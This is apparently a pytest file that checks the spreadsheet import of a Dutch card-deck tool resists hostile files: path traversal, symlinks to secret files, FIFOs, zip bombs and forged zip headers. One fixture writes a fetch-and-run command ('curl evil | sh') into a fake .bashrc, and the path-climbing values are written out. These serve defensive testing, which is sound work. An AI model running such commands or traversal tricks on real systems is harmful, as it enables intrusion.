"""Issue #22: a spreadsheet someone shared is hostile until checked. Through `reflectiespel decks import`,
as a trainer (or an attacker) would use it: nothing is written outside the deck's folder, nothing at
all until everything is checked, big sheets are refused by row, and odd files get their real reason."""

from __future__ import annotations

import errno
import os
import zipfile
from pathlib import Path

import pytest
from hostile_files import (
    csv_many_copies,
    inline_cell,
    png,
    xlsx,
    xlsx_last_column,
    xlsx_many_strings,
    xlsx_zip_bomb,
)

from reflectiespel import cli
from reflectiespel.core.decks.decks import load_deck


def _import(sheet: Path, *extra: str) -> int:
    return cli.main(["decks", "import", str(sheet), *extra])


def _files(folder: Path) -> list[str]:
    return sorted(str(p.relative_to(folder)) for p in folder.rglob("*")) if folder.exists() else []


# --- point 1: nothing outside the folder, nothing before everything is checked ----------------------------
def test_a_picture_that_climbs_out_of_the_sheets_folder_overwrites_nothing(tmp_path, monkeypatch, capsys):
    """The attack of the issue: '../../../../../.bashrc' in 'afbeelding' and a file of that name shipped
    next to the sheet; the default data folder is as deep as the climb."""
    home = tmp_path / "home"
    data = home / ".local" / "share" / "reflectiespel"  # decks/<id>/ + 5 x '..' = home
    monkeypatch.setenv("REFLECTIESPEL_DATA_DIR", str(data))
    (home / ".bashrc").parent.mkdir(parents=True)
    (home / ".bashrc").write_text("# my own settings\n")
    download = tmp_path / "dl" / "a" / "b" / "c" / "d" / "e"
    download.mkdir(parents=True)
    (download / ".." / ".." / ".." / ".." / ".." / ".bashrc").write_text("curl evil | sh\n")
    sheet = download / "set.csv"
    sheet.write_text("titel;afbeelding\nZon;../../../../../.bashrc\n", encoding="utf-8")
    assert _import(sheet) == 1
    err = capsys.readouterr().err
    assert "rij 2, kolom afbeelding: '../../../../../.bashrc' wijst buiten de map van de spreadsheet" in err
    assert "Er is niets geschreven." in err
    assert (home / ".bashrc").read_text() == "# my own settings\n"
    assert _files(data) == []


@pytest.mark.skipif(not hasattr(os, "symlink"), reason="links are a POSIX thing here")
def test_links_and_files_that_are_no_pictures_are_refused_by_row_with_their_real_reason(tmp_path, capsys,
                                                                                      data_dir):
    secret = tmp_path / "elders" / "passwd"
    secret.parent.mkdir()
    secret.write_text("root:x:0:0\n")
    png(tmp_path / "elders" / "echt.png")
    sheet_dir = tmp_path / "sheet"
    (sheet_dir / "plaatjes").mkdir(parents=True)
    os.symlink(secret, sheet_dir / "wachtwoord.png")
    os.symlink(tmp_path / "elders", sheet_dir / "via")
    (sheet_dir / "tekst.png").write_text("dit is tekst\n")
    (sheet_dir / "dier.gif").write_bytes(b"GIF89a" + b"\x00" * 20)
    os.mkfifo(sheet_dir / "pijp.png")
    os.symlink("/dev/zero", sheet_dir / "nul.png")
    png(sheet_dir / "plaatjes" / "goed.png")
    sheet = sheet_dir / "set.csv"
    sheet.write_text("titel;afbeelding\nA;wachtwoord.png\nB;via/echt.png\nC;tekst.png\nD;dier.gif\nE;pijp.png\n"
                     "F;nul.png\nG;plaatjes/goed.png\nH;weg.png\nI;/etc/passwd\n", encoding="utf-8")
    assert _import(sheet) == 1
    err = capsys.readouterr().err
    assert "rij 2, kolom afbeelding: 'wachtwoord.png' is een snelkoppeling (symbolische link)" in err
    assert "rij 3, kolom afbeelding: 'via/echt.png': de map 'via' is een snelkoppeling" in err
    assert "rij 4, kolom afbeelding: 'tekst.png' is geen plaatje (PNG of JPEG)" in err
    assert "rij 5, kolom afbeelding: 'dier.gif' is een GIF-bestand; reflectiespel gebruikt plaatjes in PNG of JPEG" in err
    assert "rij 6, kolom afbeelding: 'pijp.png' is een pijp (FIFO)" in err
    assert "rij 7, kolom afbeelding: 'nul.png' is een snelkoppeling" in err
    assert "rij 8" not in err  # the good picture
    assert "rij 9, kolom afbeelding: het plaatje 'weg.png' is niet gevonden" in err
    assert "rij 10, kolom afbeelding: '/etc/passwd' is een pad vanaf de schijf" in err
    assert "Er is niets geschreven." in err and _files(data_dir) == []


def test_a_good_sheet_with_pictures_lands_as_one_folder_without_leftovers(tmp_path, data_dir, capsys):
    sheet_dir = tmp_path / "sheet"
    (sheet_dir / "plaatjes").mkdir(parents=True)
    png(sheet_dir / "plaatjes" / "zon.png")
    png(sheet_dir / "maan.png", colour=b"\x00\x00\xff")
    sheet = sheet_dir / "buurt.csv"
    sheet.write_text("titel;afbeelding\nZon;plaatjes/zon.png\nMaan;maan.png\nNog een zon;plaatjes/zon.png\n",
                     encoding="utf-8")
    assert _import(sheet) == 0
    decks = data_dir / "decks"
    assert _files(decks) == ["buurt", "buurt/buurt.yaml", "buurt/maan.png", "buurt/plaatjes",
                             "buurt/plaatjes/zon.png"]
    deck = load_deck(decks / "buurt" / "buurt.yaml")
    assert [card.image for card in deck.cards] == ["plaatjes/zon.png", "maan.png", "plaatjes/zon.png"]
    assert (decks / "buurt" / "maan.png").read_bytes() == (sheet_dir / "maan.png").read_bytes()


def test_replacing_a_deck_keeps_the_users_other_files_and_leaves_no_temporary_folder(tmp_path, data_dir, capsys):
    sheet_dir = tmp_path / "sheet"
    sheet_dir.mkdir()
    png(sheet_dir / "zon.png")
    sheet = sheet_dir / "buurt.csv"
    sheet.write_text("titel;afbeelding\nZon;zon.png\n", encoding="utf-8")
    assert _import(sheet) == 0
    folder = data_dir / "decks" / "buurt"
    (folder / "mijn-notities.txt").write_text("blijft\n")
    png(sheet_dir / "zon.png", colour=b"\x00\xff\x00")
    sheet.write_text("titel;afbeelding\nZon;zon.png\nZon twee;zon.png\n", encoding="utf-8")
    assert _import(sheet) == 1 and "bestaat al" in capsys.readouterr().err  # not without --overschrijven
    assert len(load_deck(folder / "buurt.yaml").cards) == 1
    assert _import(sheet, "--overschrijven") == 0
    assert len(load_deck(folder / "buurt.yaml").cards) == 2
    assert (folder / "zon.png").read_bytes() == (sheet_dir / "zon.png").read_bytes()
    assert _files(folder) == ["buurt.yaml", "mijn-notities.txt", "zon.png"]


def test_nothing_written_is_said_only_when_true(tmp_path, data_dir, capsys, monkeypatch):
    """A disk that fails halfway through replacing a deck's folder: the message says what is already in
    place, never 'Er is niets geschreven'."""
    from reflectiespel.core.decks import deckwrite

    sheet_dir = tmp_path / "sheet"
    sheet_dir.mkdir()
    png(sheet_dir / "a.png")
    png(sheet_dir / "b.png", colour=b"\x00\x00\xff")
    sheet = sheet_dir / "set.csv"
    sheet.write_text("titel;afbeelding\nA;a.png\n", encoding="utf-8")
    assert _import(sheet) == 0
    sheet.write_text("titel;afbeelding\nA;a.png\nB;b.png\n", encoding="utf-8")
    real, calls = deckwrite.move_into_place, []

    def failing(staged, target):
        calls.append(target)
        if len(calls) == 2:
            raise OSError(errno.ENOSPC, "No space left on device")
        real(staged, target)

    monkeypatch.setattr(deckwrite, "move_into_place", failing)
    assert _import(sheet, "--overschrijven") == 1
    err = capsys.readouterr().err
    assert "opslaan is halverwege gestopt (de schijf is vol)" in err and "de set zelf is niet vervangen" in err
    assert "Er is niets geschreven" not in err and "No space" not in err
    assert len(load_deck(data_dir / "decks" / "set" / "set.yaml").cards) == 1  # the old deck still opens
    assert not [p for p in (data_dir / "decks" / "set").iterdir() if p.name.startswith(".import-")]


def test_a_read_only_deck_folder_is_told_in_dutch(tmp_path, data_dir, capsys, monkeypatch):
    sheet = tmp_path / "set.csv"
    sheet.write_text("titel\nRust\n", encoding="utf-8")

    def read_only(self, *args, **kwargs):
        raise OSError(errno.EROFS, "Read-only file system", str(self))

    monkeypatch.setattr(Path, "mkdir", read_only)
    assert _import(sheet) == 1
    err = capsys.readouterr().err
    assert "opslaan lukt niet (de schijf is alleen-lezen); er is niets geschreven" in err
    assert "Read-only" not in err


# --- point 5: sheets that would eat the machine are refused, by row ----------------------------------------
def test_thousands_of_rows_times_fifty_copies_are_refused_at_the_row_where_the_deck_gets_too_big(tmp_path,
                                                                                                 capsys):
    sheet = csv_many_copies(tmp_path / "veel.csv")
    assert sheet.stat().st_size < 50_000
    assert _import(sheet) == 1
    err = capsys.readouterr().err
    assert "rij 22: hier wordt de set te groot: meer dan 1000 kaarten" in err  # 20 rows x 50 fit
    assert err.count("\n") < 5


@pytest.mark.parametrize("make, expected", [
    (lambda p: xlsx_zip_bomb(p, cells=3_000_000), "wordt uitgepakt veel te groot"),
    (lambda p: xlsx_many_strings(p, strings=300_000), "meer dan 250000 verschillende teksten"),
    (lambda p: xlsx_last_column(p, rows=200), "cel XFD1: er staat iets na kolom 200"),
], ids=["zip-bomb", "shared-strings", "last-column"])
def test_xlsx_files_that_inflate_or_sprawl_are_refused_with_a_plain_message(tmp_path, capsys, data_dir, make,
                                                                            expected):
    sheet = make(tmp_path / "groot.xlsx")
    assert _import(sheet) == 1
    err = capsys.readouterr().err
    assert expected in err and "Er is niets geschreven." in err and "Traceback" not in err
    assert _files(data_dir) == []


def test_a_zip_that_lies_about_its_sizes_is_refused(tmp_path, capsys):
    """The central directory says the worksheet is small; it inflates to much more."""
    sheet = xlsx(tmp_path / "leugen.xlsx", rows=[["titel"]] + [[f"Kaart {i}"] for i in range(2000)])
    data = bytearray(sheet.read_bytes())
    name = b"xl/worksheets/sheet1.xml"
    with zipfile.ZipFile(sheet) as book:
        local = book.getinfo(name.decode()).header_offset
        assert book.getinfo(name.decode()).file_size > 50_000
    data[local + 22:local + 26] = (1000).to_bytes(4, "little")  # uncompressed size: 1000 bytes
    at = data.find(b"PK\x01\x02")
    while at >= 0:
        if data[at + 46:at + 46 + len(name)] == name:
            data[at + 24:at + 28] = (1000).to_bytes(4, "little")
        at = data.find(b"PK\x01\x02", at + 4)
    sheet.write_bytes(bytes(data))
    assert _import(sheet) == 1
    assert "dit Excel-bestand is beschadigd (in 'xl/worksheets/sheet1.xml')" in capsys.readouterr().err


def test_too_many_columns_and_rows_in_a_csv_are_refused(tmp_path, capsys):
    wide = tmp_path / "breed.csv"
    wide.write_text("titel" + ";" * 300 + "x\nA\n", encoding="utf-8")
    assert _import(wide) == 1
    assert "rij 1: er staat iets na kolom 200" in capsys.readouterr().err
    tall = tmp_path / "lang.csv"
    tall.write_text("titel\n" + "A\n" * 6000, encoding="utf-8")
    assert _import(tall) == 1
    assert "meer dan 5000 rijen" in capsys.readouterr().err


# --- point 7: smaller things, each with its real reason -------------------------------------------------
def test_a_shift_jis_sheet_is_refused_instead_of_read_as_windows_1252(tmp_path, capsys):
    sheet = tmp_path / "japans.csv"
    sheet.write_bytes("titel;tekst\n協働;一緒に学ぶ、話す。\n".encode("shift_jis"))
    assert _import(sheet) == 1
    err = capsys.readouterr().err
    assert "geen UTF-8 en ook geen Windows-1252" in err and "Shift-JIS" in err and "'CSV UTF-8'" in err


def test_a_sheet_that_is_half_utf8_names_the_line_that_is_not(tmp_path, capsys):
    sheet = tmp_path / "gemengd.csv"
    sheet.write_bytes("titel;tekst\nCafé;één\n".encode() + "Ook;dóór\n".encode("cp1252"))
    assert _import(sheet) == 1
    assert "het bestand is gemengd: het meeste is UTF-8, maar regel 3 niet" in capsys.readouterr().err


def test_a_windows_1252_sheet_says_what_was_assumed(tmp_path, capsys, data_dir):
    sheet = tmp_path / "oud.csv"
    sheet.write_bytes("titel;tekst\nCafé;Één keer “samen” – of niet…\n".encode("cp1252"))
    assert _import(sheet) == 0
    assert "Gelezen als Windows-1252 (zo bewaart Excel in Nederland)" in capsys.readouterr().out
    assert load_deck(data_dir / "decks" / "oud.yaml").cards[0].text == "Één keer “samen” – of niet…"


def test_an_unbalanced_quote_is_named_by_row_instead_of_merging_cards(tmp_path, capsys):
    open_quote = tmp_path / "open.csv"
    open_quote.write_text('titel;tekst\nRust;"Even niets\nLef;Iets nieuws\n', encoding="utf-8")
    assert _import(open_quote) == 1
    err = capsys.readouterr().err
    assert "rij 2 (regel 2 van het bestand): een aanhalingsteken (\") wordt nergens gesloten" in err
    stray = tmp_path / "los.csv"  # a quote opened in row 2 closes in row 3, with text after it
    stray.write_text('titel;tekst;vragen\nRust;"Even niets;Wat helpt?\nLef;"Iets" nieuws;Waar?\n', encoding="utf-8")
    assert _import(stray) == 1
    err = capsys.readouterr().err
    assert "rij 2 (regel 2 van het bestand): na een afsluitend aanhalingsteken (\") staat nog tekst" in err
    fine = tmp_path / "goed.csv"  # a cell over two lines (Alt+Enter in Excel), even with a ';', is fine
    fine.write_text('titel;vragen\nRust;"Wat helpt; echt?\nWat niet?"\n', encoding="utf-8")
    assert _import(fine) == 0


def test_a_formula_is_read_as_its_stored_result_or_named_by_cell(tmp_path, capsys, data_dir):
    stored = xlsx(tmp_path / "uitkomst.xlsx", '<row r="1">' + inline_cell("A1", "titel") + inline_cell(
        "B1", "tekst") + '</row><row r="2"><c r="A2" t="str"><f>CONCAT("Sa","men")</f><v>Samen</v></c>'
        '<c r="B2"><f>1+1</f><v>2</v></c></row>')
    assert _import(stored) == 0
    deck = load_deck(data_dir / "decks" / "uitkomst.yaml")
    assert (deck.cards[0].title, deck.cards[0].text) == ("Samen", "2")
    import openpyxl

    book = openpyxl.Workbook()  # openpyxl writes formulas without a result, as some programs do
    book.active.append(["titel", "tekst"])
    book.active.append(["Rust", "=A2&\" en meer\""])
    book.save(tmp_path / "formule.xlsx")
    assert _import(tmp_path / "formule.xlsx") == 1
    err = capsys.readouterr().err
    assert "cel B2: hier staat een formule (=A2&\" en meer\") zonder bewaarde uitkomst" in err
    assert "titel: leeg" not in err


@pytest.mark.parametrize("version", ["true", "1.0", "'1'"])
def test_a_deck_with_a_version_that_is_no_whole_number_is_refused(tmp_path, capsys, version):
    text = (Path(__file__).parent.parent / "data" / "mini.yaml").read_text(encoding="utf-8")
    deck = tmp_path / "set.yaml"
    deck.write_text(text.replace("format_version: 1", f"format_version: {version}"), encoding="utf-8")
    assert cli.main(["decks", "validate", str(deck)]) == 1
    assert "format_version: moet een heel getal zijn" in capsys.readouterr().err


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="named pipes are a POSIX thing")
def test_a_deck_whose_picture_is_a_pipe_says_so_instead_of_not_found(tmp_path, capsys):
    text = (Path(__file__).parent.parent / "data" / "mini.yaml").read_text(encoding="utf-8")
    deck = tmp_path / "set.yaml"
    deck.write_text(text.replace("    back: Eigen achterkant", "    image: pijp.png"), encoding="utf-8")
    os.mkfifo(tmp_path / "pijp.png")
    assert cli.main(["decks", "validate", str(deck)]) == 1
    err = capsys.readouterr().err
    assert "'pijp.png' is een pijp (FIFO) van een ander programma" in err and "niet gevonden" not in err
